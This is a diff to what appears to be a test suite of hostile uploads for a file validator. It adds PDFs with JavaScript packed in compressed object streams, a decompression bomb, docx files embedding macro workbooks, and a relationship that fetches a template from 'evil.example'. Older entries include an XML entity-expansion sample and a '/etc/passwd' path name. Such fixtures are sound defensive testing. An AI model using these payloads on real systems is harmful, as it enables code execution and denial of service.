@@ -71,6 +71,25 @@ MACRO_TYPES = CONTENT_TYPES.replace("</Types>", '<Override PartName="/x" Content
 DOCTYPE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
 PNG, JPEG, WEBP = picture(), picture("JPEG"), picture("WEBP")
 
+
+def packed(content: bytes) -> bytes:
+    """Objects of a PDF that lie packed in a stream."""
+    inside = zlib.compress(content)
+    return b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(inside) + inside + b"\nendstream\nendobj\n"
+
+
+def photo(kind: str = "JPEG", *, turned: int = 6, size=(64, 48)) -> bytes:
+    """A photo with its place and its phone, taken upright."""
+    exif = Image.Exif()
+    exif[0x0112], exif[0x010F] = turned, "Telepon Rahasia"
+    exif.get_ifd(0x8825).update({1: "S", 2: (2.0, 9.0, 30.0), 3: "E", 4: (115.0, 23.0, 0.0)})
+    buffer = io.BytesIO()
+    picture = Image.effect_noise(size, 60).convert("RGB")
+    picture.save(buffer, kind, exif=exif.tobytes())
+    return buffer.getvalue()
+
+
+TEMPLATE = '<Relationships><Relationship Id="r1" Type="http://x/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
 HOSTILE = {
     # Another kind than the name says.
     "html as pdf": ("sk.pdf", HTML),
@@ -138,6 +157,9 @@ HOSTILE = {
     "name from the root": ("data.xlsx", xlsx({"/etc/passwd": "a"})),
     "two parts of a name": ("data.xlsx", two_of_a_name()),
     "other packing": ("data.xlsx", xlsx(method=zipfile.ZIP_LZMA)),
+    "macro workbook inside docx": ("surat.docx", docx(**{"word/embeddings/data.xlsm": b"a"})),
+    "archive inside docx": ("surat.docx", docx(**{"word/embeddings/a.zip": b"a"})),
+    "template from elsewhere": ("surat.docx", docx(**{"word/_rels/settings.xml.rels": TEMPLATE})),
     "cut off": ("data.xlsx", xlsx()[:-30]),
     "cut in the middle": ("surat.docx", docx(**{"word/media/a.xml": "<a/>" * 500})[60:]),
     # PDF.
@@ -155,7 +177,13 @@ HOSTILE = {
     "pdf and html": ("sk.pdf", pdf(head=b"%PDF-1.4\n<html><script>alert(1)</script>")),
     "pdf and zip": ("sk.pdf", pdf(tail=archive({"a.txt": "a"}))),
     "pdf with a program after a megabyte": ("sk.pdf", pdf(b"0" * 1_048_570 + b"<< /S /JavaScript >>")),
+    "pdf with a packed program": ("sk.pdf", pdf(packed(b"1 0 << /S /JavaScript /JS (app.alert(1)) >>"))),
+    "pdf with a program packed deep": ("sk.pdf", pdf(packed(b"0" * 300_000 + b"<< /S /JavaScript >>"))),
+    "pdf that is locked": ("sk.pdf", pdf(b"trailer << /Encrypt 5 0 R >>")),
+    "pdf that unpacks to far too much": ("sk.pdf", pdf(packed(b"0" * 5_000_000) * 20)),
     # Pictures.
+    "jpg, its second half missing": ("foto.jpg", photo()[:-700]),
+    "webp, its second half missing": ("foto.webp", photo("WEBP")[:-300]),
     "jpg, only its first bytes": ("foto.jpg", JPEG[:20]),
     "png, cut off": ("foto.png", PNG[:40]),
     "png with a wrong sum": ("foto.png", PNG[:30] + b"xxxx" + PNG[34:]),
